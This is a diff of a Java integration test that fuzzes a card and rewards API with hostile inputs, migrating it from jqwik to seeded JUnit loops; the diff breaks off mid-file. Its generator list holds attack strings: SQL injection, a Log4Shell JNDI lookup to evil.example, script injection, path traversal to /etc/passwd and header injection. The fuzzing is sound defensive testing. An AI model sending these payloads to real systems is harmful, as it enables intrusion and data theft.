@@ -10,6 +10,8 @@ import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.math.BigDecimal;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
@@ -18,27 +20,32 @@ import java.util.Arrays;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.SplittableRandom;
 import java.util.concurrent.atomic.AtomicLong;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
-import net.jqwik.api.Example;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
-import net.jqwik.api.ShrinkingMode;
-import net.jqwik.api.lifecycle.AfterProperty;
-import net.jqwik.api.lifecycle.BeforeContainer;
-import net.jqwik.api.lifecycle.BeforeProperty;
+import java.util.function.BiConsumer;
+import java.util.function.Consumer;
+import java.util.function.Function;
+import java.util.function.Predicate;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Order;
+import org.junit.jupiter.api.Test;
 
 /**
- * Bad input at scale (jqwik, fixed seeds, bounded tries): random and hostile bodies, header values, path segments
- * and query values at every endpoint of the OpenAPI documents, through the HTTPS front door (internal endpoints on
- * their service's port) with VALID tokens, so that the input is what is under test. The only acceptable answers are
- * the documented 4xx in the endpoint's dialect (or the front door's documented neutral refusals) or a success; never
- * a 5xx, never a stack trace, a Java class name or a secret in a body. Rejected writes leave no trace: activation
- * batches, consumer registrations, cards and Triple entities are looked up in PostgreSQL afterwards.
+ * Bad input at scale (plain JUnit, fixed seeds, a fixed number of tries): random and hostile bodies, header values,
+ * path segments and query values at every endpoint of the OpenAPI documents, through the HTTPS front door (internal
+ * endpoints on their service's port) with VALID tokens, so that the input is what is under test. The only acceptable
+ * answers are the documented 4xx in the endpoint's dialect (or the front door's documented neutral refusals) or a
+ * success; never a 5xx, never a stack trace, a Java class name or a secret in a body. Rejected writes leave no trace:
+ * activation batches, consumer registrations, cards and Triple entities are looked up in PostgreSQL afterwards.
+ *
+ * <p>Each property draws its cases from one {@link SplittableRandom} with a constant seed, so the same cases are sent
+ * on every run (only the ids made unique per run differ); a failure names the seed and the try, and the property is
+ * replayed by running it again. Every try runs: the property then reports each distinct unacceptable answer once.</p>
+ *
+ * <p>First of the IT classes (before {@code LocalStackIT}), as it always was: {@code LogHygieneIT} scans the logs of
+ * all this input after it.</p>
  */
+@Order(0)
 class BadInputIT {
 
     static final JsonNodeFactory NODES = JsonNodeFactory.instance;
@@ -49,8 +56,10 @@ class BadInputIT {
     static List<Endpoint> endpoints;
     /** Distinct failures of the current property (endpoint and kind), reported together when it ends. */
     static final Map<String, String> PROBLEMS = new java.util.concurrent.ConcurrentHashMap<>();
+    /** The seed and try of the case being checked, written into every problem so that it can be found again. */
+    static String currentTry = "";
 
-    @BeforeContainer
+    @BeforeAll
     static void stack() {
         shared = SharedStack.get();
         endpoints = Endpoints.all().stream().filter(e -> !e.isPublic()).toList();
@@ -67,17 +76,22 @@ class BadInputIT {
         }
     }
 
-    @BeforeProperty
-    void clearProblems() {
+    /**
+     * Runs a property: {@code tries} cases drawn from one random source seeded with {@code seed}, each checked (the
+     * check records its problems instead of stopping at the first), then every distinct problem reported at once.
+     */
+    static <T> void forAll(int tries, long seed, Function<SplittableRandom, T> cases, Consumer<T> property) {
         PROBLEMS.clear();
-    }
-
-    /** Every try runs; each distinct failure (endpoint + kind of answer) is reported once, all together. */
-    @AfterProperty
-    void reportProblems() {
+        SplittableRandom random = new SplittableRandom(seed);
+        for (int i = 1; i <= tries; i++) {
+            currentTry = "seed " + seed + ", try " + i + "/" + tries;
+            property.accept(cases.apply(random));
+        }
+        currentTry = "";
         List<String> all = new ArrayList<>(new java.util.TreeMap<>(PROBLEMS).values());
         PROBLEMS.clear();
-        assertEquals(List.of(), all, all.size() + " kinds of unacceptable answers");
+        assertEquals(List.of(), all, all.size() + " kinds of unacceptable answers in " + tries + " tries (seed " + seed
+                + ": the same cases on every run)");
     }
 
     /** Records a failed check under a key that groups the same defect (endpoint, status, first words). */
@@ -85,49 +99,66 @@ class BadInputIT {
         String kind = c.endpoint() + " -> " + (r == null ? "no answer" : r.status() + " "
                 + r.body().replaceAll("[0-9a-f-]{36}|\\d{4}-\\d\\d-\\d\\dT[0-9:.]+Z", "").replaceAll("\"details\":\\[.*?]", "")
                         .substring(0, Math.min(60, r.body().length())));
-        PROBLEMS.putIfAbsent(kind, e.getMessage().length() > 1500 ? e.getMessage().substring(0, 1500) + "..." : e.getMessage());
+        String message = e.getMessage().length() > 1500 ? e.getMessage().substring(0, 1500) + "..." : e.getMessage();
+        PROBLEMS.putIfAbsent(kind, "[" + currentTry + "] " + message);
     }
 
     // ---- properties -------------------------------------------------------------------------------------------
 
-    @Property(tries = 300, seed = "8124001", shrinking = ShrinkingMode.BOUNDED)
-    void hostileBodiesAreRefusedInTheDialect(@ForAll("bodyCases") Case c) {
-        checkAndRecord(c);
+    @Test
+    void hostileBodiesAreRefusedInTheDialect() {
+        forAll(300, 8124001L, BadInputIT::bodyCase, BadInputIT::checkAndRecord);
     }
 
-    @Property(tries = 150, seed = "8124002", shrinking = ShrinkingMode.BOUNDED)
-    void hostilePathSegmentsAreRefusedInTheDialect(@ForAll("pathCases") Case c) {
-        checkAndRecord(c);
+    @Test
+    void hostilePathSegmentsAreRefusedInTheDialect() {
+        forAll(150, 8124002L, BadInputIT::pathCase, BadInputIT::checkAndRecord);
     }
 
-    @Property(tries = 120, seed = "8124003", shrinking = ShrinkingMode.BOUNDED)
-    void hostileHeaderValuesAreRefusedInTheDialect(@ForAll("headerCases") Case c) {
-        Api.Response r = sendRaw(c);
+    @Test
+    void hostileHeaderValuesAreRefusedInTheDialect() {
+        forAll(120, 8124003L, BadInputIT::headerCase,
+                c -> sendAndCheck(c, BadInputIT::sendRaw, BadInputIT::checkHeaderAnswer));
+    }
+
+    @Test
+    void hostileQueryValuesAreRefusedInTheDialect() {
+        forAll(80, 8124004L, BadInputIT::queryCase, BadInputIT::checkAndRecord);
+    }
+
+    /** All or nothing: a batch with one hostile record is refused and none of its valid records is written. */
+    @Test
+    void anActivationBatchWithOneBadRecordWritesNothing() {
+        forAll(60, 8124005L, BadInputIT::activationBatch,
+                c -> sendAndCheck(c, BadInputIT::sendBatch, BadInputIT::checkBatchRefused));
+    }
+
+    /** A registration with one bad account, a card or a Triple entity with one bad field: refused, no row. */
+    @Test
+    void aRefusedCreationLeavesNoRow() {
+        forAll(90, 8124006L, BadInputIT::creation,
+                c -> sendAndCheck(c, BadInputIT::send, BadInputIT::checkNoRowIfRefused));
+    }
+
+    static void checkHeaderAnswer(Case c, Api.Response r) {
         if (r.status() == 400 && !r.header("content-type").orElse("").contains("json")) {
             // malformed HTTP (e.g. a control character in a header) refused by the HTTP codec before any route
             assertTrue(r.body().length() < 100 && !Dialects.LEAK.matcher(r.body()).find(), c + ": " + r);
             return;
         }
-        try {
-            check(c, r);
-        } catch (AssertionError e) {
-            problem(c, r, e);
-        }
+        check(c, r);
     }
 
-    @Property(tries = 80, seed = "8124004", shrinking = ShrinkingMode.BOUNDED)
-    void hostileQueryValuesAreRefusedInTheDialect(@ForAll("queryCases") Case c) {
-        checkAndRecord(c);
+    /** Sent as the Blackhawk partner would: its token, the batch, nothing else. */
+    static Api.Response sendBatch(Case c) {
+        return Api.call("POST", "/cards/v1/set-activation-codes", shared.token("local-blackhawk"), c.body());
     }
 
-    /** All or nothing: a batch with one hostile record is refused and none of its valid records is written. */
-    @Property(tries = 60, seed = "8124005", shrinking = ShrinkingMode.BOUNDED)
-    void anActivationBatchWithOneBadRecordWritesNothing(@ForAll("activationBatches") ArrayNode batch) {
-        Api.Response r = Api.call("POST", "/cards/v1/set-activation-codes", shared.token("local-blackhawk"), json(batch));
-        assertTrue(r.status() == 400 || r.status() == 413, batch + ": " + r);
+    static void checkBatchRefused(Case c, Api.Response r) {
+        assertTrue(r.status() == 400 || r.status() == 413, c + ": " + r);
         Dialects.assertErrorShape(Dialect.BLACKHAWK, r, "batch");
         List<Long> quotes = new ArrayList<>();
-        for (JsonNode record : batch) {
+        for (JsonNode record : readTree(c.body())) {
             if (record.path("quoteNumber").isTextual() && record.path("quoteNumber").asText().startsWith("83")) {
                 quotes.add(Long.parseLong(record.path("quoteNumber").asText()));
             }
@@ -140,10 +171,7 @@ class BadInputIT {
         }
     }
 
-    /** A registration with one bad account, a card or a Triple entity with one bad field: refused, no row. */
-    @Property(tries = 90, seed = "8124006", shrinking = ShrinkingMode.BOUNDED)
-    void aRefusedCreationLeavesNoRow(@ForAll("creations") Case c) {
-        Api.Response r = send(c);
+    static void checkNoRowIfRefused(Case c, Api.Response r) {
         check(c, r);
         if (r.status() >= 400) {
             String id = c.path().get("created");
@@ -158,7 +186,7 @@ class BadInputIT {
     }
 
     /** 10 MB bodies at every write endpoint: the front door (413, neutral) and each service itself (413, dialect). */
-    @Example
+    @Test
     void tenMegabyteBodiesAreRefusedByTheFrontDoorAndByEveryService() {
         byte[] huge = tenMegabytes();
         List<String> problems = new ArrayList<>();
@@ -199,7 +227,7 @@ class BadInputIT {
     }
 
     /** JSON nested far deeper than any parser should follow, within each API's body limit: 4xx, never 500. */
-    @Example
+    @Test
     void deeplyNestedJsonIsRefusedEverywhere() {
         List<String> problems = new ArrayList<>();
         for (Endpoint e : endpoints) {
@@ -230,14 +258,19 @@ class BadInputIT {
     // ---- the checks ---------------------------------------------------------------------------------------------
 
     static void checkAndRecord(Case c) {
+        sendAndCheck(c, BadInputIT::send, BadInputIT::check);
+    }
+
+    /** Sends the case and checks the answer; a failed check (or no answer at all) is recorded, not thrown. */
+    static void sendAndCheck(Case c, Function<Case, Api.Response> send, BiConsumer<Case, Api.Response> checks) {
         Api.Response r = null;
         try {
-            r = send(c);
-            check(c, r);
+            r = send.apply(c);
+            checks.accept(c, r);
         } catch (AssertionError e) {
             problem(c, r, e);
         } catch (RuntimeException e) {
-            problem(c, r, new AssertionError(c + ": no HTTP answer: " + e));
+            problem(c, r, new AssertionError(c + (r == null ? ": no HTTP answer: " : ": ") + e));
         }
     }
 
@@ -316,221 +349,326 @@ class BadInputIT {
         };
     }
 
+
     // ---- generators ---------------------------------------------------------------------------------------------
+    // Each takes the property's random source and draws one value; the alternatives of a generator are equally
+    // likely.
 
     /** Strings that have broken parsers, validators, loggers and SQL before. */
-    static Arbitrary<String> hostileStrings() {
-        return Arbitraries.oneOf(
-                Arbitraries.of("", " ", "null", "true", "-1", "0", "1e999", "NaN", "9".repeat(40), "' OR '1'='1' --",
-                        "\"; DROP TABLE cards; --", "${jndi:ldap://evil.example/a}", "#{7*7}", "%s%s%s%n", "%00",
-                        "<script>alert(1)</script>", "../../../../etc/passwd", "..%2F..%2F", "\\", "\"", "{}", "[]",
-                        "\u0000", "a\u0000b", "\u202Egnp.exe", "\uFEFF", "😀🔥", "𝕳𝖊𝖑𝖑𝖔", "ǅ", "İ", "ß", "\r\nX-Injected: 1",
-                        "\u001b[31mred", "CON", "A".repeat(65), "1".repeat(19), "triple-", "triple-" + "x".repeat(200)),
-                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8),
-                Arbitraries.strings().withCharRange(' ', '\uD7FF').ofMinLength(1).ofMaxLength(40),
-                Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(8).map(s -> s.repeat(1 + 12_000 / s.length())));
+    static final List<String> KNOWN_HOSTILE = List.of("", " ", "null", "true", "-1", "0", "1e999", "NaN", "9".repeat(40),
+            "' OR '1'='1' --", "\"; DROP TABLE cards; --", "${jndi:ldap://evil.example/a}", "#{7*7}", "%s%s%s%n", "%00",
+            "<script>alert(1)</script>", "../../../../etc/passwd", "..%2F..%2F", "\\", "\"", "{}", "[]",
+            "\u0000", "a\u0000b", "\u202Egnp.exe", "\uFEFF", "😀🔥", "𝕳𝖊𝖑𝖑𝖔", "ǅ", "İ", "ß", "\r\nX-Injected: 1",
+            "\u001b[31mred", "CON", "A".repeat(65), "1".repeat(19), "triple-", "triple-" + "x".repeat(200));
+
+    /** A known hostile string, control characters, any characters below the surrogates, or a 12,000-character run. */
+    static String hostileString(SplittableRandom r) {
+        return switch (r.nextInt(4)) {
+            case 0 -> pick(r, KNOWN_HOSTILE);
+            case 1 -> chars(r, '\u0000', '\u001f', 1, 8);
+            case 2 -> chars(r, ' ', '\uD7FF', 1, 40);
+            default -> {
+                String s = alphanumeric(r, 1, 8);
+                yield s.repeat(1 + 12_000 / s.length());
+            }
+        };
+    }
+
+    /** A hostile string of at most {@code max} characters (a path segment or query value of at most 600). */
+    static String hostileString(SplittableRandom r, int max) {
+        return filtered(r, BadInputIT::hostileString, v -> v.length() <= max);
     }
 
     /** Any JSON value: scalars of every type, hostile strings, arrays and objects a few levels deep. */
-    static Arbitrary<JsonNode> jsonValues(int depth) {
-        List<Arbitrary<? extends JsonNode>> choices = new ArrayList<>(List.of(
-                hostileStrings().map(NODES::textNode),
-                Arbitraries.longs().map(NODES::numberNode),
-                Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("-0.000001"), new BigDecimal("12345678901234567890123"))
-                        .map(NODES::numberNode),
-                Arbitraries.of(true, false).map(NODES::booleanNode),
-                Arbitraries.just(NODES.nullNode())));
-        if (depth > 0) {
-            choices.add(jsonValues(depth - 1).list().ofMaxSize(4).map(l -> {
+    static JsonNode jsonValue(SplittableRandom r, int depth) {
+        return switch (r.nextInt(depth > 0 ? 7 : 5)) {
+            case 0 -> NODES.textNode(hostileString(r));
+            case 1 -> NODES.numberNode(anyLong(r));
+            case 2 -> NODES.numberNode(pick(r, List.of(new BigDecimal("1e400"), new BigDecimal("-0.000001"),
+                    new BigDecimal("12345678901234567890123"))));
+            case 3 -> NODES.booleanNode(r.nextBoolean());
+            case 4 -> NODES.nullNode();
+            case 5 -> {
                 ArrayNode a = NODES.arrayNode();
-                a.addAll(l);
-                return a;
-            }));
-            Arbitrary<String> names = Arbitraries.oneOf(Arbitraries.of("consumerId", "__proto__", "constructor", "", "$where",
-                    "status_code", "a\u0000b"), Arbitraries.strings().ofMaxLength(20));
-            choices.add(Combinators.combine(names.list().ofMaxSize(4),
-                    jsonValues(depth - 1).list().ofSize(4)).as((keys, values) -> {
-                        ObjectNode o = NODES.objectNode();
-                        for (int i = 0; i < keys.size(); i++) {
-                            o.set(keys.get(i), values.get(i));
-                        }
-                        return o;
-                    }));
-        }
-        @SuppressWarnings("unchecked")
-        Arbitrary<JsonNode>[] all = choices.toArray(new Arbitrary[0]);
-        return Arbitraries.oneOf(List.of(all));
+                for (int i = size(r, 0, 4); i > 0; i--) {
+                    a.add(jsonValue(r, depth - 1));
+                }
+                yield a;
+            }
+            default -> {
+                // up to 4 names, possibly the same one twice (the later value wins), each with any value
+                ObjectNode o = NODES.objectNode();
+                for (int i = size(r, 0, 4); i > 0; i--) {
+                    o.set(fieldName(r), jsonValue(r, depth - 1));
+                }
+                yield o;
+            }
+        };
     }
 
-    /** Bytes that are not (valid) JSON. */
-    static Arbitrary<byte[]> notJson() {
-        return Arbitraries.oneOf(
-                Arbitraries.of("", "{", "[", "{\"a\":", "{\"a\" 1}", "{'a':1}", "[1,]", "{\"a\":1}}", "nul", "01",
-                        "<xml/>", "\u0000\u0000", "{\"a\":\"\\uZZZZ\"}", "{\"a\":1,\"a\":2}", "\"just a string\"", "42",
-                        "--boundary\r\nContent-Disposition: form-data\r\n").map(s -> s.getBytes(StandardCharsets.UTF_8)),
-                Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(300),
-                Arbitraries.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0},
-                        new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'}));
+    /** Names that mean something to some parser or framework, or any string of up to 20 characters. */
+    static String fieldName(SplittableRandom r) {
+        return r.nextBoolean() ? pick(r, List.of("consumerId", "__proto__", "constructor", "", "$where", "status_code", "a\u0000b"))
+                : anyString(r, 0, 20);
     }
 
-    @Provide
-    Arbitrary<Case> bodyCases() {
-        Arbitrary<Endpoint> writes = Arbitraries.of(endpoints.stream().filter(Endpoint::hasBody).toList());
-        return writes.flatMap(e -> Arbitraries.oneOf(
+    /** Bytes that are not (valid) JSON: broken JSON and other formats, random bytes, invalid UTF-8. */
+    static byte[] notJson(SplittableRandom r) {
+        return switch (r.nextInt(3)) {
+            case 0 -> pick(r, List.of("", "{", "[", "{\"a\":", "{\"a\" 1}", "{'a':1}", "[1,]", "{\"a\":1}}", "nul", "01",
+                    "<xml/>", "\u0000\u0000", "{\"a\":\"\\uZZZZ\"}", "{\"a\":1,\"a\":2}", "\"just a string\"", "42",
+                    "--boundary\r\nContent-Disposition: form-data\r\n")).getBytes(StandardCharsets.UTF_8);
+            case 1 -> {
+                byte[] bytes = new byte[size(r, 1, 300)];
+                r.nextBytes(bytes);
+                yield bytes;
+            }
+            default -> pick(r, List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0},
+                    new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'}));
+        };
+    }
+
+    static Case bodyCase(SplittableRandom r) {
+        Endpoint e = pick(r, endpoints.stream().filter(Endpoint::hasBody).toList());
+        return switch (r.nextInt(5)) {
+            case 0 -> {
                 // the valid body with one field replaced by anything
-                Combinators.combine(Arbitraries.of(fields(e)), jsonValues(2)).as((field, value) -> {
-                    JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
-                    replace(body, field, value);
-                    return new Case(e, Map.of(), json(body), new String[0], null, "field " + field);
-                }),
-                // the valid body with a field removed, or an unknown one added
-                Arbitraries.of(fields(e)).map(field -> {
-                    JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
-                    if (body instanceof ObjectNode o) {
-                        o.remove(field);
-                    } else if (body instanceof ArrayNode a && a.get(0) instanceof ObjectNode o) {
-                        o.remove(field);
-                    }
-                    return new Case(e, Map.of(), json(body), new String[0], null, "without " + field);
-                }),
-                // any JSON at all
-                jsonValues(3).map(v -> new Case(e, Map.of(), json(v), new String[0], null, "random JSON")),
-                // not JSON, or JSON sent as something else
-                notJson().map(b -> new Case(e, Map.of(), b, new String[0], null, "not JSON")),
-                Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data",
-                        "application/json; charset=ebcdic", "application/json\u00e9", "*/*", "")
-                        .map(type -> new Case(e, Map.of(), json(e.sampleBody()), new String[] {"Content-Type", type}, null,
-                                "content type " + type))));
+                String field = pick(r, fields(e));
+                JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
+                replace(body, field, jsonValue(r, 2));
+                yield new Case(e, Map.of(), json(body), new String[0], null, "field " + field);
+            }
+            case 1 -> {
+                // the valid body with a field removed
+                String field = pick(r, fields(e));
+                JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
+                if (body instanceof ObjectNode o) {
+                    o.remove(field);
+                } else if (body instanceof ArrayNode a && a.get(0) instanceof ObjectNode o) {
+                    o.remove(field);
+                }
+                yield new Case(e, Map.of(), json(body), new String[0], null, "without " + field);
+            }
+            // any JSON at all
+            case 2 -> new Case(e, Map.of(), json(jsonValue(r, 3)), new String[0], null, "random JSON");
+            // not JSON, or JSON sent as something else
+            case 3 -> new Case(e, Map.of(), notJson(r), new String[0], null, "not JSON");
+            default -> {
+                String type = pick(r, List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
+                        "multipart/form-data", "application/json; charset=ebcdic", "application/json\u00e9", "*/*", ""));
+                yield new Case(e, Map.of(), json(e.sampleBody()), new String[] {"Content-Type", type}, null,
+                        "content type " + type);
+            }
+        };
     }
 
-    @Provide
-    Arbitrary<Case> pathCases() {
-        Arbitrary<Endpoint> withParameters = Arbitraries.of(endpoints.stream().filter(e -> e.template().contains("{")).toList());
-        return withParameters.flatMap(e -> Combinators.combine(Arbitraries.of(parameters(e)),
-                        hostileStrings().filter(v -> v.length() <= 600))
-                .as((parameter, value) -> {
-                    String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
-                    Map<String, String> path = new LinkedHashMap<>();
-                    path.put(parameter, encoded.isEmpty() ? "%20" : encoded);
-                    return new Case(e, path, null, new String[0], null, "path " + parameter);
-                }));
+    static Case pathCase(SplittableRandom r) {
+        Endpoint e = pick(r, endpoints.stream().filter(x -> x.template().contains("{")).toList());
+        String parameter = pick(r, parameters(e));
+        String encoded = URLEncoder.encode(hostileString(r, 600), StandardCharsets.UTF_8).replace("+", "%20");
+        Map<String, String> path = new LinkedHashMap<>();
+        path.put(parameter, encoded.isEmpty() ? "%20" : encoded);
+        return new Case(e, path, null, new String[0], null, "path " + parameter);
     }
 
-    @Provide
-    Arbitrary<Case> headerCases() {
-        Arbitrary<Endpoint> any = Arbitraries.of(endpoints);
-        Arbitrary<String> values = Arbitraries.oneOf(hostileStrings().filter(s -> s.length() < 4000)
-                .map(s -> s.replace("\r", "").replace("\n", "")),
-                Arbitraries.strings().withCharRange('\u0001', '\u001f').ofMinLength(1).ofMaxLength(5)
-                        .map(s -> s.replace("\r", "").replace("\n", "")).filter(s -> !s.isEmpty()));
-        return any.flatMap(e -> Combinators.combine(Arbitraries.of(headerNames(e)), values)
-                .as((name, value) -> new Case(e, Map.of(), null, new String[] {name, value}, null, "header " + name)));
+    static Case headerCase(SplittableRandom r) {
+        Endpoint e = pick(r, endpoints);
+        String name = pick(r, headerNames(e));
+        // CR and LF would split the request into two: a raw HTTP client sends every other byte as it is
+        String value = r.nextBoolean()
+                ? filtered(r, BadInputIT::hostileString, s -> s.length() < 4000).replace("\r", "").replace("\n", "")
+                : filtered(r, x -> chars(x, '\u0001', '\u001f', 1, 5).replace("\r", "").replace("\n", ""), s -> !s.isEmpty());
+        return new Case(e, Map.of(), null, new String[] {name, value}, null, "header " + name);
     }
 
-    @Provide
-    Arbitrary<Case> queryCases() {
-        Arbitrary<Endpoint> gets = Arbitraries.of(endpoints.stream().filter(e -> e.method().equals("GET")).toList());
-        return gets.flatMap(e -> Combinators.combine(Arbitraries.of("offset", "limit", "offset", "limit", "id", "x"),
-                        hostileStrings().filter(v -> v.length() <= 600), Arbitraries.integers().between(1, 3))
-                .as((name, value, times) -> {
-                    String one = name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
-                    return new Case(e, Map.of(), null, new String[0], String.join("&", java.util.Collections.nCopies(times, one)),
-                            "query " + name);
-                }));
+    static Case queryCase(SplittableRandom r) {
+        Endpoint e = pick(r, endpoints.stream().filter(x -> x.method().equals("GET")).toList());
+        // the paging parameters twice as often as the others
+        String name = pick(r, List.of("offset", "limit", "offset", "limit", "id", "x"));
+        String one = name + "=" + URLEncoder.encode(hostileString(r, 600), StandardCharsets.UTF_8);
+        int times = size(r, 1, 3);
+        return new Case(e, Map.of(), null, new String[0], String.join("&", java.util.Collections.nCopies(times, one)),
+                "query " + name);
     }
 
-    @Provide
-    Arbitrary<ArrayNode> activationBatches() {
-        // values that break the documented rules for sure (digits-only numbers of 18/19 digits, codes [A-Za-z0-9]{4,16})
-        Arbitrary<JsonNode> badNumber = Arbitraries.oneOf(
-                Arbitraries.of(NODES.numberNode(-1), NODES.numberNode(1.5), NODES.numberNode(new BigDecimal("1e30")),
-                        NODES.booleanNode(true), NODES.nullNode(), NODES.textNode(""), NODES.textNode(" "),
-                        NODES.textNode("12a"), NODES.textNode("-5"), NODES.textNode("1".repeat(25)), NODES.arrayNode(),
-                        NODES.objectNode(), NODES.textNode("１２３"), NODES.textNode("12\u00003")),
-                hostileStrings().filter(v -> !v.isBlank() && !v.matches("[0-9]+")).map(NODES::textNode));
-        Arbitrary<JsonNode> badCode = Arbitraries.oneOf(
-                Arbitraries.of(NODES.textNode("abc"), NODES.textNode("ab"), NODES.textNode("x".repeat(17)),
-                        NODES.textNode("Code 1"), NODES.textNode("Códe1"), NODES.textNode("code\u0000x"),
-                        NODES.textNode("😀😀😀😀"), NODES.booleanNode(false), NODES.nullNode(), NODES.numberNode(1.25),
-                        NODES.arrayNode(), NODES.objectNode(), NODES.textNode("")),
-                hostileStrings().filter(v -> !v.matches("[A-Za-z0-9]{4,16}")).map(NODES::textNode));
-        Arbitrary<ObjectNode> bad = Arbitraries.oneOf(
-                Combinators.combine(Arbitraries.of("quoteNumber", "proxyNumber"), badNumber).as((field, value) -> {
-                    ObjectNode r = validRecord();
-                    r.set(field, value);
-                    return r;
-                }),
-                badCode.map(value -> {
-                    ObjectNode r = validRecord();
-                    r.set("activationCode", value);
-                    return r;
-                }),
-                Arbitraries.of("quoteNumber", "proxyNumber", "activationCode").map(field -> {
-                    ObjectNode r = validRecord();
-                    r.remove(field);
-                    return r;
-                }),
-                jsonValues(1).filter(v -> !v.isObject()).map(v -> {
-                    ObjectNode wrapper = NODES.objectNode();
-                    wrapper.set("notARecord", v);
-                    wrapper.remove("notARecord");
-                    return wrapper; // an empty object: every field missing
-                }));
-        return Combinators.combine(Arbitraries.integers().between(1, 60), Arbitraries.integers().between(0, 60), bad)
-                .as((size, position, record) -> {
-                    ArrayNode batch = NODES.arrayNode();
-                    for (int i = 0; i < size; i++) {
-                        batch.add(validRecord());
-                    }
-                    batch.insert(Math.min(position, size), record);
-                    return batch;
-                });
+    /** 1-60 valid activation records and one that surely breaks the documented rules, anywhere in the batch. */
+    static Case activationBatch(SplittableRandom r) {
+        int size = size(r, 1, 60);
+        int position = Math.min(size(r, 0, 60), size);
+        ObjectNode bad = badActivationRecord(r);
+        ArrayNode batch = NODES.arrayNode();
+        for (int i = 0; i < size; i++) {
+            batch.add(validRecord());
+        }
+        batch.insert(position, bad);
+        return new Case(endpoint("POST", "/cards/v1/set-activation-codes"), Map.of(), json(batch), new String[0], null,
+                "batch of " + (size + 1) + ", record " + position + " bad: " + bad);
     }
 
-    @Provide
-    Arbitrary<Case> creations() {
-        Endpoint register = endpoint("POST", "/issuers/{issuerId}/consumers");
-        Endpoint card = endpoint("POST", "/issuers/{issuerId}/cards");
-        Endpoint publisher = endpoint("POST", "/partner/publishers");
-        Endpoint account = endpoint("POST", "/partner/card-accounts");
-        Arbitrary<Case> consumers = Combinators.combine(Arbitraries.integers().between(0, 5), jsonValues(1))
-                .as((good, bad) -> {
-                    String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
-                    ObjectNode body = NODES.objectNode().put("consumerId", id);
-                    ArrayNode accounts = body.putArray("accounts");
-                    for (int i = 0; i < good; i++) {
-                        accounts.addObject().put("accountId", "BI-" + i);
-                    }
-                    accounts.addObject().set("accountId", bad);
-                    return new Case(register, Map.of("created", id, "table", "consumer.consumers:consumer_id"), json(body),
-                            new String[0], null, "register with a bad account");
-                });
-        Arbitrary<Case> cards = Combinators.combine(Arbitraries.of("consumerId", "accountId", "productType", "customerNumber",
-                "programId", "proxyNumber", "pan"), jsonValues(1)).as((field, value) -> {
-                    String id = "BI-" + RUN + "-" + UNIQUE.incrementAndGet();
-                    ObjectNode body = NODES.objectNode().put("cardId", id).put("consumerId", "bi-consumer")
-                            .put("accountId", "BI-1").put("productType", "DEBIT");
-                    body.set(field, value);
-                    return new Case(card, Map.of("created", id, "table", "card.cards:card_id"), json(body), new String[0],
-                            null, "card with a bad " + field);
-                });
-        Arbitrary<Case> publishers = jsonValues(1).map(value -> {
-            String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
-            ObjectNode body = NODES.objectNode().put("external_id", id);
-            body.set("name", value);
-            return new Case(publisher, Map.of("created", id, "table", "rewards.publishers:external_id"), json(body),
-                    new String[0], null, "publisher with a bad name");
-        });
-        Arbitrary<Case> accounts = Combinators.combine(Arbitraries.of("default_country_code", "default_postal_code", "status",
-                "card_program_id"), jsonValues(1)).as((field, value) -> {
-                    String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
-                    ObjectNode body = NODES.objectNode().put("card_program_id", "triple-AAAAAAAAAAAAAAAAAAAAAA")
-                            .put("external_id", id);
-                    body.set(field, value);
-                    return new Case(account, Map.of("created", id, "table", "rewards.card_accounts:external_id"), json(body),
-                            new String[0], null, "card account with a bad " + field);
-                });
-        return Arbitraries.oneOf(consumers, cards, publishers, accounts);
+    static ObjectNode badActivationRecord(SplittableRandom r) {
+        ObjectNode record = validRecord();
+        switch (r.nextInt(4)) {
+            case 0 -> record.set(pick(r, List.of("quoteNumber", "proxyNumber")), badNumber(r));
+            case 1 -> record.set("activationCode", badCode(r));
+            case 2 -> record.remove(pick(r, List.of("quoteNumber", "proxyNumber", "activationCode")));
+            default -> record.removeAll(); // an empty object: every field missing
+        }
+        return record;
+    }
+
+    /** Values that break the documented rule for the numbers for sure (digits only, 18 or 19 of them). */
+    static JsonNode badNumber(SplittableRandom r) {
+        if (r.nextBoolean()) {
+            return pick(r, List.of(NODES.numberNode(-1), NODES.numberNode(1.5), NODES.numberNode(new BigDecimal("1e30")),
+                    NODES.booleanNode(true), NODES.nullNode(), NODES.textNode(""), NODES.textNode(" "),
+                    NODES.textNode("12a"), NODES.textNode("-5"), NODES.textNode("1".repeat(25)), NODES.arrayNode(),
+                    NODES.objectNode(), NODES.textNode("１２３"), NODES.textNode("12\u00003")));
+        }
+        return NODES.textNode(filtered(r, BadInputIT::hostileString, v -> !v.isBlank() && !v.matches("[0-9]+")));
+    }
+
